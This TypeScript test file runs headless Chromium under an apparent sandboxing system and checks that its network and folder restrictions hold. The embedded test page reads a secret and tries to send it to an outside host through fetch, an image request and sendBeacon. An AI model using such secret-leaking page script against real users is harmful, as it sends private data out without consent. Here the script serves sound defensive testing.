/** Chromium without a screen: several processes with shared memory; scripts, canvas, storage, a picture. */
import { match, ok, strictEqual } from "node:assert";
import { ADDRESS, PORT } from "./stage.ts";
import type { Program } from "./suite.ts";

const PAGE = `<!doctype html><title>Registry</title><style>body { background: #0a7 } h1 { font-size: 40px }</style><h1 id=x>none</h1>
<script>
const c = document.createElement("canvas").getContext("2d"); c.fillRect(1, 1, 5, 5);
localStorage.setItem("k", "stored"); const w = new Worker(URL.createObjectURL(new Blob(["postMessage(6 * 7)"])));
w.onmessage = async (e) => { const s = (await (await fetch("secret")).text()).trim();
  document.getElementById("x").textContent = [e.data, localStorage.getItem("k"), c.getImageData(2, 2, 1, 1).data[3], s].join(" ");
  try { await fetch("http://${ADDRESS}:${PORT}/?" + s, { mode: "no-cors" }); document.body.append("REACHED"); } catch (e) { document.body.append("unreachable"); }
  try { await fetch("http://127.0.0.1:${PORT}/?" + s, { mode: "no-cors" }); document.body.append("REACHED"); } catch (e) { document.body.append("unreachable"); }
  new Image().src = "http://${ADDRESS}:${PORT}/i?" + s; navigator.sendBeacon("http://${ADDRESS}:${PORT}/b", s);
};
</script>`;

/** Its own sandbox needs namespaces, which are closed to labelled programs: the label is the sandbox. */
const ARGS = [
  ...["--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run", "--disable-background-networking"],
  ...["--disable-component-update", "--disable-sync", "--virtual-time-budget=20000", "--timeout=120000"],
];
const SITE = "http://127.0.0.1:8090/page.html";

export const chromium: Program = [
  {
    name: "renders a page of a server of its label: scripts, worker, storage, canvas; as DOM and as picture",
    async run(stage) {
      await stage.open(`cat > page.html <<'END'\n${PAGE}\nEND\ntrue`);
      const server = await stage.serve(
        ["/usr/bin/python3", "-u", "-m", "http.server", "8090", "--bind", "127.0.0.1"],
        /Serving HTTP/,
      );
      try {
        const browser = ["chromium-headless-shell", ...ARGS];
        const dom = await stage.ok([...browser, `--user-data-dir=${stage.data}/profile`, "--dump-dom", SITE]);
        match(dom, /<h1 id="x">42 stored 255 xyzzy-4711-plugh<\/h1>/);
        await stage.ok([...browser, `--screenshot=${stage.data}/page.png`, "--window-size=400,300", SITE]);
        const png = Buffer.from(await stage.shell("cat page.png"), "latin1");
        strictEqual(png.subarray(1, 4).toString(), "PNG");
        ok(png.readUInt32BE(16) === 400 && png.readUInt32BE(20) === 300, "the picture's size");
        await stage.noWayOut([
          {
            what: "a page's requests",
            argv: [...browser, "--dump-dom", SITE],
            refused: "network",
          },
          {
            what: "a picture",
            argv: [...browser, `--screenshot=${stage.out}/page.png`, SITE],
            refused: "folder",
          },
          {
            what: "a profile",
            argv: [...browser, `--user-data-dir=${stage.out}`, "--dump-dom", SITE],
            refused: "folder",
          },
        ]);
      } finally {
        await server.stop();
      }
    },
  },
];
